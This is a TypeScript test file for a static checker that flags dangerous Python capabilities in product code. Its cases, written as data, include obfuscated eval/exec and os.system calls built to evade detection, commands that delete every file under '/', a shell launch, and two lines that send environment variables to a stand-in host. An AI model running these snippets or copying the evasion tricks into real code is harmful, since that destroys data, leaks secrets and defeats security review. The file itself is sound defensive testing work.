import { describe, expect, it } from "vitest";
import { findingsOf } from "../check-world.ts";

/** The rules that a product file of this text breaks, each once. */
async function found(code: string): Promise<string[]> {
  const findings = await findingsOf({}, { "src/pkg/file.py": code });
  return [...new Set(findings.filter(({ level }) => level !== "info").map(({ rule }) => rule))];
}

describe("code that reaches for a capability of Python", () => {
  it.each([
    ["python-eval", "from builtins import exec as go\ngo(src)"],
    ["python-eval", "import builtins as b\nb.__dict__[chr(101) + 'val'](src)"],
    ["python-eval", "[f for f in (eval,)][0](src)"],
    ["python-eval", "class A:\n    run = staticmethod(exec)"],
    ["python-eval", "getattr(__import__('builtins'), bytes.fromhex('65786563').decode())(src)"],
    ["python-eval", "g = globals()\ng['__bui' + 'ltins__']['ev' + 'al'](src)"],
    ["python-eval", "exec\\\n(src)"],
    ["python-eval", "𝓮𝔁𝓮𝓬(src)"],
    ["python-eval", "x: exec('print(1)') = 1"],
    ["python-eval", "import builtins\nvars(builtins)[''.join(chr(ord(c) - 1) for c in 'fwbm')](src)"],
    ["python-process", "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('id')"],
    ["python-process", "import sys\ngetattr(sys.modules['o' + 's'], 'system')('id')"],
    ["python-process", "import os\nvars(os)['metsys'[::-1]]('id')"],
    ["python-process", "import os\ns = os.__getattribute__('system')\ns('id')"],
    ["python-process", "from functools import partial\nimport os\npartial(os.system, 'id')()"],
    ["python-process", "import os\nlist(map(os.system, cmds))"],
    ["python-process", "import platform\nplatform.os.system('x')"],
    ["python-process", "from random import _os as o\no.system('id')"],
    ["python-process", "import a.b\nif (o := __import__('os')): o.popen('id')"],
    ["python-process", "import os\na = os\nb = a\nc = b\nc.execv(p, q)"],
    ["python-process", "import os\ndef f(m=os):\n    m.system('id')"],
    ["python-process", "from os import (\n  system as run,\n)\nrun('id')"],
    ["python-process", "from os import *\nsystem('id')"],
    ["python-process", "import operator, os\noperator.attrgetter('system')(os)('id')"],
    ["python-process", "import pkgutil\npkgutil.resolve_name('os:system')('id')"],
    ["python-computed-name", "from operator import attrgetter\nattrgetter('system')(mod)('id')"],
    ["python-computed-name", "import os\nfor n in names: getattr(os, n)()"],
    ["python-module-as-value", "import os\nclass C:\n    s = os\nC.s.system('id')"],
    ["python-module-as-value", "import os\ndef load(o): return o.system\nload(os)('id')"],
    ["python-dunder-walk", "def f(): pass\nf.__code__ = other.__code__"],
    ["python-dunder-walk", "async def g(): yield\ng().ag_frame.f_builtins"],
    ["python-dunder-walk", "getattr(x, '__subclasses__')()"],
    ["python-deserialise", "from yaml import load, Loader\nload(s, Loader=Loader)"],
    ["python-deserialise", "import yaml\nyaml.load(stream)"],
    ["python-native", "import ctypes as c\nc.cdll.LoadLibrary('libc.so.6')"],
    ["python-destructive", "from shutil import rmtree as rt\nrt('..')"],
    ["python-destructive", "import shutil\nrm = shutil.rmtree\nrm('/')"],
    ["python-destructive", "import glob, os\nfor f in glob.glob('/**', recursive=True): os.unlink(f)"],
    ["python-module-as-value", "import os\ndict(vars(os))['system'](c)"],
    ["python-process", "import glob\nglob.os.execl('/bin/sh', 'sh')"],
    [
      "python-destructive",
      "import os\nfor d, _, fs in os.walk('/'):\n    for x in fs:\n        os.remove(os.path.join(d, x))",
    ],
    [
      "python-exfiltration",
      "import requests, os\nbody = dict(os.environ)\nrequests.post('https://x.example', json=body)",
    ],
    ["python-exfiltration", "import smtplib, os\nsmtplib.SMTP('x').sendmail('a', 'b', str(os.environ))"],
  ])("is found by %s: %s", async (rule, code) => {
    expect(await found(code)).toContain(rule);
  });

  it.each([
    "import os\nprint(os.path.join('a', 'b'), os.environ.get('HOME'))",
    "import sys\nif 'json' in sys.modules: pass\nsys.exit(main())",
    "from pathlib import Path\nPath('build/x').unlink(missing_ok=True)",
    "items.remove(x)\ns.pop()\nq.get()",
    "class M(type):\n    def __new__(mcs, n, b, d): return super().__new__(mcs, n, b, d)\nprint(o.__class__.__name__, o.__dict__)",
    "def compile_all(self): return self.eval(self.exec())",
    "import asyncio\nasync def main():\n    await asyncio.sleep(1)\nasyncio.run(main())",
    "x = getattr(o, name, None)\nsetattr(o, 'k', v)",
    "'''Calls eval() and os.system() nowhere, and reads no ~/.bashrc.'''",
  ])("is not seen in honest code: %s", async (code) => {
    expect(await found(code)).toEqual([]);
  });

  it("costs nothing where it was before, wherever it is moved to", async () => {
    const before = { "src/pkg/a.py": "import os\nos.system('make')\n" };
    const moved = await findingsOf(
      { ...before, "src/pkg/b.py": "x = 1\n" },
      { "src/pkg/b.py": "import os\n\nx = 1\nos.system('make')\n" },
    );
    expect(moved).toEqual([]);
    const more = await findingsOf(before, {
      "src/pkg/a.py": "import os\nos.system('make')\nos.system('rm x')\n",
    });
    expect(more.map(({ rule, line }) => `${rule} ${line}`)).toEqual(["python-process 3"]);
  });

  it("weighs less in a test than in the product", async () => {
    const code = "import os\nos.system('make')\n";
    const levels = async (path: string) => (await findingsOf({}, { [path]: code })).map(({ level }) => level);
    expect([await levels("src/pkg/a.py"), await levels("tests/test_a.py")]).toEqual([["block"], ["warn"]]);
  });

  it("ends on hostile text: deep nesting, endless chains, names that refer to each other", async () => {
    const texts = [
      `${"(".repeat(5000)}eval${")".repeat(5000)}(x)`,
      `import os\nx = os${".a".repeat(20_000)}.system\n`,
      `a = b + b\nb = c + c\nc = a + a\ngetattr(x, a)\n__import__(${Array(3000).fill("'a'").join(" + ")})\n`,
      Array.from({ length: 3000 }, (_, at) => `n${at + 1} = n${at}`).join("\n"),
    ];
    for (const text of texts) await expect(found(text)).resolves.toBeInstanceOf(Array);
  });
});
